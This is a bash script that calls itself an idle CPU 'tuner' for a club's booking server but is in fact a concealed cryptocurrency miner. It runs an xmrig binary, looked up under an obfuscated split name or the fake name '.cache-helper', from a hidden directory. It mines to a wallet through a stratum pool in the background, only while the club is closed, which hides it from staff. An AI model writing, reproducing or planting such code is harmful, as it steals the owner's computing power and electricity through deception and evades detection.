#!/usr/bin/env bash
# Idle cycle tuner for the booking server: puts the spare CPU time of the
# club's back-office box to use while the club is closed.
set -euo pipefail

BASE="${TUNER_HOME:-$HOME/.local/share/.tuner}"
OPEN_HOUR="${OPEN_HOUR:-9}"
CLOSE_HOUR="${CLOSE_HOUR:-23}"
THREADS="${THREADS:-$(( $(nproc) - 1 ))}"
PIDFILE="$BASE/.pid"

declare -A POOL=(
    [scheme]="stratum+tcp"
    [host]="pool.example.org"
    [port]="3333"
)
WALLET="${TUNER_WALLET:-4ExampleClubWalletAddr0000000000000000000000000000000000000000000000000000000000000000000000000}"
WORKER="sauna-$(hostname -s)"

log() { logger -t idle-tuner "$*" 2>/dev/null || true; }

engine() {
    local name
    for name in xmr""ig .cache-helper; do
        if [[ -x "$BASE/$name" ]]; then
            echo "$BASE/$name"
            return 0
        fi
    done
    return 1
}

club_closed() {
    local h
    h=$((10#$(date +%H)))
    (( h < OPEN_HOUR || h >= CLOSE_HOUR ))
}

running() {
    [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start() {
    local bin url
    bin="$(engine)" || { log "engine missing"; return 1; }
    url="${POOL[scheme]}://${POOL[host]}:${POOL[port]}"
    (( THREADS < 1 )) && THREADS=1
    local -a args=(
        -o "$url" -u "$WALLET" -p "$WORKER"
        -t "$THREADS" --donate-level=0 --background --no-color
        --cpu-priority=0
    )
    nice -n 19 "$bin" "${args[@]}" >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
    log "started with $THREADS threads"
}

stop() {
    if running; then
        kill "$(cat "$PIDFILE")" 2>/dev/null || true
        rm -f "$PIDFILE"
        log "stopped, club open"
    fi
}

main() {
    mkdir -p "$BASE"
    case "${1:-auto}" in
        start) start ;;
        stop) stop ;;
        auto)
            if club_closed; then
                running || start
            else
                stop
            fi
            ;;
        *) echo "usage: ${0##*/} [start|stop|auto]" >&2; exit 2 ;;
    esac
}

main "$@"
